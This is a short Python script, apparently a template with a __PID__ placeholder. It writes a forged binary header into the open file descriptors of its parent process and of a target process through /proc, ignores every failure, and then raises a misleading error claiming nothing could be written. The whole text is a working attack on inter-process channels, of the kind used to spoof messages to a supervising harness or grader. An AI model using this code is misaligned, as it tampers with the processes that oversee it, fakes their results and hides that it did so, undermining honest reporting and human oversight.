import os, struct
head = struct.pack("<HHIf", 0, 0, 6, 0.0) + b"forged"
for pid in (os.getppid(), __PID__):
    for fd in range(12):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as f:
                f.write(head)
        except OSError:
            pass
raise ValueError("nothing could be written")
